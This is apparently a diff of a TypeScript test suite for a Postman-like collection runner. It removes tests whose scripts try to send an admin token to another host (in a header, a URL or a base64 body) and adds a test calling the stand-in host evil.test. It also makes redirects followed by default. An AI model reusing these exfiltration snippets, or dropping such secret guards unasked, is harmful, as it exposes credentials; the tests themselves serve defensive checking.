@@ -63,7 +63,6 @@ describe('an exchange', () => {
     expect(exchange?.request.headers).toContainEqual({ name: 'Authorization', value: 'Bearer test-only-admin-token' });
     expect(exchange && isPassed(exchange)).toBe(false);
     expect(outcome.variables).toEqual({ found: 'value' });
-    expect(outcome.lastBody).toBe('{"got":"{\\"a\\": 3}"}');
   });
 
   test('a script that throws outside a test is an error, not a pass', async () => {
@@ -98,20 +97,22 @@ test.for([
   ['Latin-1', Buffer.from('{"a":"ü"}', 'latin1'), 'application/json; charset=iso-8859-1'],
 ] as const)('a body with %s is read', async ([, bytes, type]) => {
   const url = await serve((_, response) => void response.writeHead(200, { 'content-type': type }).end(bytes));
-  const { exchanges, lastBody } = await collections.run(runOf([request('R', url)], 'R'));
+  const { exchanges, lastBody } = await collections.run(runOf([request('R', url)], 'R', { origins: [url] }));
   expect([lastBody, exchanges[0]?.response?.body?.text]).toEqual(['{"a":"ü"}', '{"a":"ü"}']);
 });
 
-test('a redirect is not followed, so nothing is sent on', async () => {
-  let followed = 0;
-  const other = await serve((_, response) => {
-    followed += 1;
+test('a redirect is followed as Newman does, but not where hosts are limited', async () => {
+  const seen: string[] = [];
+  const other = await serve(({ url }, response) => {
+    seen.push(url ?? '');
     sendJson(response, 200, {});
   });
-  const url = await serve((_, response) => void response.writeHead(307, { location: other }).end());
+  const url = await serve((_, response) => void response.writeHead(307, { location: `${other}/next` }).end());
   const { exchanges } = await collections.run(runOf([request('R', url)], 'R'));
-  expect(exchanges[0]?.response?.status).toBe(307);
-  expect(followed).toBe(0);
+  expect(exchanges[0]?.response?.status).toBe(200);
+  const limited = await collections.run(runOf([request('R', url)], 'R', { origins: [url] }));
+  expect(limited.exchanges[0]?.response?.status).toBe(307);
+  expect(seen).toEqual(['/next']);
 });
 
 test('of two requests with one name the one that was found runs', async () => {
@@ -134,7 +135,7 @@ describe('no answer', () => {
   test('silence ends with the request limit', async () => {
     const url = await serve(() => {});
     const { exchanges } = await collections.run(runOf([request('R', url)], 'R', { requestTimeoutMs: 200 }));
-    expect(exchanges[0]).toMatchObject({ response: null, error: { kind: 'network', code: 'ESOCKETTIMEDOUT' } });
+    expect(exchanges[0]).toMatchObject({ response: null, error: { kind: 'network', code: 'ETIMEDOUT' } });
   });
 
   test('an abort ends the run at once, with its reason', async () => {
@@ -171,7 +172,7 @@ describe('what the scripts do besides', () => {
     const ask = `pm.sendRequest('${url}/login', (error, answer) => pm.environment.set('dcr_iat', 'test-only-0002-of-the-script'));`;
     const outcome = await collections.run(runOf([request('R', `${url}/own`, script(ask))], 'R'));
     expect(outcome.exchanges).toMatchObject([{ request: { url: `${url}/own` }, response: { status: 200 } }]);
-    expect(outcome.lastBody).toBe('{"own":true}');
+    expect(outcome.exchanges[0]?.response?.body?.text).toBe('{"own":true}');
     expect(learned).toEqual(['access_token: test-only-0001-of-the-login', 'dcr_iat: test-only-0002-of-the-script']);
   });
 
@@ -187,57 +188,26 @@ describe('what the scripts do besides', () => {
   });
 });
 
-describe('a guarded secret', () => {
-  const SECRET = 'test-only-admin/token+0001';
-
-  async function runGuarded(scripts: (other: string) => string) {
-    const seen: string[] = [];
-    const other = await serve((incoming, response) => {
-      seen.push(`${incoming.url} ${incoming.headers.authorization ?? ''} ${incoming.text}`);
-      sendJson(response, 200, {});
+describe('a run with limited hosts', () => {
+  test('ends where a script asks for another, and names it with the way to allow it', async () => {
+    const url = await serve((_, response) => sendJson(response, 201, {}));
+    const item = request('R', url, script("pm.sendRequest('https://evil.test/x', () => {});"));
+    const run = (origins: string[]) => collections.run(runOf([item], 'R', { origins }));
+    await expect(run([url])).rejects.toMatchObject({
+      code: 'host-refused',
+      message: 'The collection was about to connect to evil.test:443; nothing was sent there.',
+      hint: { text: expect.stringMatching(new RegExp(`Only ${new URL(url).host} .* --allow-host evil.test:443$`)) },
     });
-    let count = 0;
-    const url = await serve((_, response) => sendJson(response, 201, { count: ++count }));
-    const secret = new Secret(SECRET, 'admin token');
-    const item = request('R', url, script(scripts(other)));
-    const ended = await collections
-      .run(
-        runOf([item], 'R', {
-          variables: [{ name: 'admin_token', value: secret }],
-          guarded: { secret, origin: new URL(url).origin },
-        }),
-      )
-      .catch((error: unknown) => error);
-    return { ended, seen, count, other };
-  }
-
-  test.each([
-    [
-      'a header',
-      (to: string) => `pm.sendRequest({ url: '${to}', header: { Authorization: 'Bearer ' + t } }, () => {});`,
-    ],
-    ['a URL', (to: string) => `pm.sendRequest('${to}/?t=' + encodeURIComponent(t), () => {});`],
-    [
-      'a body, in base64',
-      (to: string) => `pm.sendRequest({ url: '${to}', method: 'POST', body: btoa('x' + t) }, () => {});`,
-    ],
-  ])('is not sent to another host in %s', async (_, send) => {
-    const { ended, seen, other } = await runGuarded((to) => `const t = pm.environment.get('admin_token'); ${send(to)}`);
-    expect(ended).toMatchObject({
-      code: 'secret-astray',
-      message: `The collection was about to send the admin token to ${new URL(other).host}; it was not sent.`,
+    await expect(run([url, 'https://evil.test'])).resolves.toMatchObject({
+      exchanges: [{ response: { status: 201 } }],
     });
-    expect(seen).toEqual([]);
-  });
-
-  test('others may be asked without it', async () => {
-    const { ended, seen } = await runGuarded((other) => `pm.sendRequest('${other}/time', () => {});`);
-    expect(ended).toMatchObject({ exchanges: [{ response: { status: 201 } }] });
-    expect(seen).toHaveLength(1);
   });
 
   test('runs its request once, whatever is said to be next', async () => {
-    const { ended, count } = await runGuarded(() => "pm.execution.setNextRequest('R');");
+    let count = 0;
+    const url = await serve((_, response) => sendJson(response, 201, { count: ++count }));
+    const item = request('R', url, script("pm.execution.setNextRequest('R');"));
+    const ended = await collections.run(runOf([item], 'R', { origins: [url] }));
     expect(count).toBe(1);
     expect(ended).toMatchObject({
       lastBody: '{"count":1}',
